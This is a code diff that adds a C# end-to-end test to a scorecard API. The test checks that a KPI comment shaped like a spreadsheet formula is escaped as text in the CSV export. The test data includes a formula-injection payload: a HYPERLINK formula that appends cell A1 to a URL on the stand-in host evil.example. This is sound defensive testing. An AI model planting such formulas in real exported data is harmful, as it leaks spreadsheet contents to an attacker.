@@ -1,4 +1,5 @@
 using System.Net;
+using System.Net.Http.Json;
 using System.Text.Json.Nodes;
 using Microsoft.EntityFrameworkCore;
 using ScorecardBot.Core.Model;
@@ -141,5 +142,24 @@ public abstract partial class EndToEndTests
         var errors = Bot.Logs.Lines.Skip(before).Where(l => l.Level >= Microsoft.Extensions.Logging.LogLevel.Error).Select(l => $"{l.Category}: {l.Text}").ToList();
         Assert.True(errors.Count == 0, string.Join("\n", errors));
         Assert.Equal(HttpStatusCode.OK, (await Client.GetAsync("healthz")).StatusCode);
+    }
+}
+
+public abstract partial class EndToEndTests
+{
+    [Fact]
+    public async Task A_comment_that_looks_like_a_formula_is_exported_to_csv_as_text()
+    {
+        var (_, key) = await CreateKeyAsync("Formula feed", "write");
+        const string comment = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open report\")";
+        var put = await Api(key).PutAsJsonAsync("api/v1/kpis/seated-trucks/actuals/2025-02", new { value = 96.5m, comment });
+        Assert.Equal(HttpStatusCode.OK, put.StatusCode);
+
+        var csv = await Api(key).GetStringAsync("api/v1/export?format=csv&scorecard=fleet&from=2025-02&to=2025-02");
+
+        var line = csv.Split("\r\n").Single(l => l.Contains(",seated-trucks,", StringComparison.Ordinal));
+        Assert.Contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open report\"\")\",", line, StringComparison.Ordinal);
+        Assert.DoesNotContain(",=HYPERLINK", line, StringComparison.Ordinal);
+        Assert.Contains(",96.5,", line, StringComparison.Ordinal);
     }
 }
